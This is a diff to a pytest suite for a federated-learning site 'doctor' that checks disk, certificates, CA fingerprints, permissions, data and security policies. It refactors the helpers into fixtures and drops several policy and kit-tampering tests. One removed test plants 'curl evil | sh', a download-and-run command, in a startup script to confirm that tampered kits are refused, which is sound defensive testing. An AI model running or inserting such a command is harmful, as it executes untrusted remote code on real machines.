@@ -4,7 +4,6 @@ import datetime as dt
 import gzip
 import json
 import shutil
-import time
 from collections import namedtuple
 
 import nibabel as nib
@@ -21,50 +20,20 @@ from fedvox.doctor.finding import run_check
 from fedvox.doctor.host import GIB
 
 CLEAN_RUNS = 20
-FILTER = {"path": "fedvox.flare.outgoing.OutgoingFilter"}
-SECONDS = 60
 
 
-@pytest.fixture
-def doctor(place, server, capsys):
-    """A function that runs the command and returns exit code and finding by check."""
-
-    def run(*more: str) -> tuple[int, dict[str, dict[str, str]]]:
-        start = time.monotonic()
-        code = main([*place.arguments(), *more])
-        assert time.monotonic() - start < SECONDS
-        output = capsys.readouterr().out
-        assert str(place.data) not in output
-        return code, {f["check"]: f for f in json.loads(output)["findings"]}
-
-    return run
-
-
-def complaints(findings):
-    return {name for name, finding in findings.items() if finding["status"] != "PASS"}
-
-
-def test_a_clean_place_has_no_complaint(doctor):
+def test_a_clean_place_has_no_complaint(doctor, complaints):
     code, findings = doctor()
     assert (code, complaints(findings)) == (0, set())
     assert {"disk", "ram", "clock", "certificate", "ca", "dns", "port"} <= set(findings)
     assert {"permissions", "versions", "data", "labels", "allow-list", "kit"} <= set(findings)
 
 
-def test_it_stays_without_complaint(doctor):
+def test_it_stays_without_complaint(doctor, complaints):
     assert [complaints(doctor()[1]) for _ in range(CLEAN_RUNS)] == [set()] * CLEAN_RUNS
 
 
-def found(doctor, check, *words, more=()):
-    code, findings = doctor(*more)
-    assert check in complaints(findings), findings
-    text = findings[check]["message"]
-    assert all(word in text for word in words), text
-    assert findings[check]["remedy"]
-    return code, findings
-
-
-def test_disk(doctor, monkeypatch):
+def test_disk(found, monkeypatch):
     usage = namedtuple("usage", "total used free")
     real = shutil.disk_usage
     monkeypatch.setattr(
@@ -72,146 +41,107 @@ def test_disk(doctor, monkeypatch):
         "disk_usage",
         lambda path: real(path) if "shm" in str(path) else usage(10**12, 10**12, GIB // 2),
     )
-    assert found(doctor, "disk", "0.5 GiB free")[0] == 1
+    assert found("disk", "0.5 GiB free")[0] == 1
 
 
-def test_ram(doctor, monkeypatch):
+def test_ram(found, monkeypatch):
     memory = psutil.virtual_memory()._replace(available=GIB)
     monkeypatch.setattr(psutil, "virtual_memory", lambda: memory)
-    assert found(doctor, "ram", "1.0 GiB available")[0] == 1
+    assert found("ram", "1.0 GiB available")[0] == 1
 
 
-def test_clock(doctor, place, kits):
+def test_clock(found, place, kits):
     later = dt.datetime.now(dt.UTC) + dt.timedelta(days=3)
     issue(place, kits, later, later + dt.timedelta(days=300))
-    assert found(doctor, "clock", "the kit's certificate is from")[0] == 1
+    assert found("clock", "the kit's certificate is from")[0] == 1
 
 
-def test_certificate_under_30_days(doctor, place, kits):
+def test_certificate_under_30_days(found, place, kits):
     now = dt.datetime.now(dt.UTC)
     issue(place, kits, now - dt.timedelta(days=300), now + dt.timedelta(days=20))
-    found(doctor, "certificate", "19 days left")
+    found("certificate", "19 days left")
 
 
-def test_expired_certificate(doctor, place, kits):
+def test_expired_certificate(found, place, kits):
     now = dt.datetime.now(dt.UTC)
     issue(place, kits, now - dt.timedelta(days=300), now - dt.timedelta(days=20))
-    assert found(doctor, "certificate", "expired")[0] == 1
+    assert found("certificate", "expired")[0] == 1
 
 
-def test_foreign_ca(doctor, place):
+def test_foreign_ca(found, place):
     _, root = own_root()
     (place.startup / "rootCA.pem").write_bytes(root.public_bytes(serialization.Encoding.PEM))
-    assert found(doctor, "ca", "not issued by")[0] == 1
+    assert found("ca", "not issued by")[0] == 1
 
 
-def test_other_fingerprint_than_the_operator_named(doctor):
-    assert found(doctor, "ca", "the operator named abab", more=["--root-ca", "ab:" * 31 + "ab"])
+def test_other_fingerprint_than_the_operator_named(found):
+    assert found("ca", "the operator named abab", more=["--root-ca", "ab:" * 31 + "ab"])
 
 
-def test_the_named_fingerprint_passes(doctor):
+def test_the_named_fingerprint_passes(doctor, complaints):
     text = doctor()[1]["ca"]["message"].split()[-1]
     colons = ":".join(text[i : i + 2] for i in range(0, 64, 2)).upper()
     assert complaints(doctor("--root-ca", colons)[1]) == set()
 
 
-def test_dns(doctor, place):
+def test_dns(found, place):
     retarget(place, "no-such-host.invalid", None)
-    assert found(doctor, "dns", "no-such-host.invalid")[0] == 1
+    assert found("dns", "no-such-host.invalid")[0] == 1
 
 
-def test_port(doctor, place):
+def test_port(found, place):
     retarget(place, None, 9)
-    assert found(doctor, "port", "does not answer")[0] == 1
+    assert found("port", "does not answer")[0] == 1
 
 
-def test_permissions(doctor, place):
+def test_permissions(found, place):
     (place.startup / "client.key").chmod(0o644)
-    assert found(doctor, "permissions", "can be read by others")[0] == 1
+    assert found("permissions", "can be read by others")[0] == 1
 
 
-def test_unwritable_cache(doctor, place):
+def test_unwritable_cache(found, place):
     cache = place.kit.parent / "cache"
     cache.mkdir(mode=0o500)
-    assert found(doctor, "permissions", "the cache cannot be written")[0] == 1
+    assert found("permissions", "the cache cannot be written")[0] == 1
 
 
 @pytest.mark.parametrize("package", ["fedvox", "nvflare", "torch"])
-def test_version(doctor, place, package):
+def test_version(found, place, package):
     path = place.job / "app/config/versions.json"
     path.write_text(json.dumps({**json.loads(path.read_text()), package: "0.0.9"}))
-    assert found(doctor, "versions", f"the job needs {package} 0.0.9, this machine has")[0] == 1
+    assert found("versions", f"the job needs {package} 0.0.9, this machine has")[0] == 1
 
 
-def test_data(doctor, place):
+def test_data(found, place):
     for path in sorted((place.data / "images").glob("*.nii.gz")):
         path.write_bytes(path.read_bytes()[:-100])
-    assert found(doctor, "data", "cases cannot be used")[0] == 1
+    assert found("data", "cases cannot be used")[0] == 1
 
 
-def test_modality(doctor, place):
+def test_modality(found, place):
     path = place.local / "fedvox_site.json"
     path.write_text(json.dumps({**json.loads(path.read_text()), "modalities": ["t1"]}))
-    assert found(doctor, "data")[0] == 1
+    assert found("data")[0] == 1
 
 
-def test_labels(doctor, place):
+def test_labels(found, place):
     for path in sorted((place.data / "labels").glob("*.nii.gz")):
         volume = nib.load(path)
         array = np.asarray(volume.dataobj).astype(np.uint8)
         array[0, 0, 0] = 77
         nib.save(nib.Nifti1Image(array, volume.affine), path)
-    assert found(doctor, "labels", "wrong labels")[0] == 1
+    assert found("labels", "wrong labels")[0] == 1
 
 
-def test_allow_list(doctor, place):
+def test_allow_list(found, place):
     path = place.local / "resources.json"
     policy = json.loads(path.read_text())
     policy["class_allow_list"].remove("fedvox.flare.executor.FedVoxExecutor")
     path.write_text(json.dumps(policy))
-    assert found(doctor, "allow-list", "fedvox.flare.executor.FedVoxExecutor")[0] == 1
+    assert found("allow-list", "fedvox.flare.executor.FedVoxExecutor")[0] == 1
 
 
-@pytest.mark.parametrize(
-    ("name", "change", "words"),
-    [
-        ("privacy.json", {"scopes": []}, "outgoing filter"),
-        ("privacy.json", {"scopes": [{"task_data_filters": [FILTER]}]}, "outgoing filter"),
-        ("resources.json", {"class_allow_list": ["*"]}, "allows *"),
-        ("resources.json", {"class_allow_list": ["fedvox."]}, "allows fedvox."),
-        ("resources.json", {"class_allow_list": None}, "class_allow_list"),
-        ("resources.json", {"components": []}, "kit_guard"),
-        ("resources.json", {"class_list_enforcement_mode": "warn"}, "does not enforce"),
-        ("resources.json", {"allow_log_streaming": True}, "streams"),
-        ("log_config.json", {"formatters": {}}, "redact"),
-        ("log_config.json", {"handlers": {"x": {"formatter": "y"}}}, "redact"),
-        ("authorization.json", {"permissions": []}, "authorization.json"),
-    ],
-)
-def test_a_weakened_policy_is_named(doctor, place, name, change, words):
-    path = place.local / name
-    path.write_text(json.dumps({**json.loads(path.read_text()), **change}))
-    assert found(doctor, "policies", words)[0] == 1
-
-
-def test_a_changed_byte_in_the_kit_is_named(doctor, place):
-    path = place.startup / "sub_start.sh"
-    content = bytearray(path.read_bytes())
-    content[40] ^= 1
-    path.write_bytes(content)
-    assert found(doctor, "kit", "startup/sub_start.sh: changed")[0] == 1
-
-
-def test_a_resealed_kit_is_refused(doctor, place):
-    from fedvox.flare.kit_guard import PARTS
-    from fedvox.manifest import MANIFEST, write_manifest
-
-    (place.startup / "start.sh").write_text("curl evil | sh")
-    write_manifest(place.kit, place.kit / MANIFEST, PARTS)
-    assert found(doctor, "kit", "not signed by the project's root CA")[0] == 1
-
-
-def test_a_bit_flip_that_gzip_notices_is_data(doctor, place):
+def test_a_bit_flip_that_gzip_notices_is_data(doctor, complaints, place):
     path = min((place.data / "images").glob("*.nii.gz"))
     content = bytearray(path.read_bytes())
     content[len(content) // 2] ^= 16
@@ -227,10 +157,14 @@ def test_the_machine_alone_can_be_checked(capsys):
 
 
 def test_a_missing_site_file_is_a_finding(doctor, place, capsys):
+    """A warning while only the kit is looked at, a failure as soon as a job is about to run."""
     (place.local / "fedvox_site.json").unlink()
-    assert main(["doctor", "--kit", str(place.kit), "--json"]) == 1
+    code, findings = doctor()
+    assert (code, findings["data"]["status"]) == (1, "FAIL")
+    assert main(["doctor", "--kit", str(place.kit), "--json"]) == 0
     findings = {f["check"]: f for f in json.loads(capsys.readouterr().out)["findings"]}
-    assert findings["data"]["status"] == "FAIL"
+    assert findings["data"]["status"] == "WARN"
+    assert "fedvox_site.json" in findings["data"]["remedy"]
 
 
 def test_a_fingerprint_without_a_kit_is_refused(capsys):
@@ -238,7 +172,7 @@ def test_a_fingerprint_without_a_kit_is_refused(capsys):
     assert "--kit" in capsys.readouterr().err
 
 
-def test_a_certificate_that_the_server_refuses_is_found(doctor, place):
+def test_a_certificate_that_the_server_refuses_is_found(found, place):
     key, _ = own_root()
     own = key.private_bytes(
         serialization.Encoding.PEM,
@@ -248,7 +182,7 @@ def test_a_certificate_that_the_server_refuses_is_found(doctor, place):
     (place.startup / "client.key").write_bytes(own)
     made = certificate("site-1", key.public_key(), "foreign", key)
     (place.startup / "client.crt").write_bytes(made.public_bytes(serialization.Encoding.PEM))
-    assert found(doctor, "port", "refuses this site's certificate")[0] == 1
+    assert found("port", "refuses this site's certificate")[0] == 1
 
 
 def test_a_check_that_breaks_is_a_finding_and_names_nobody():
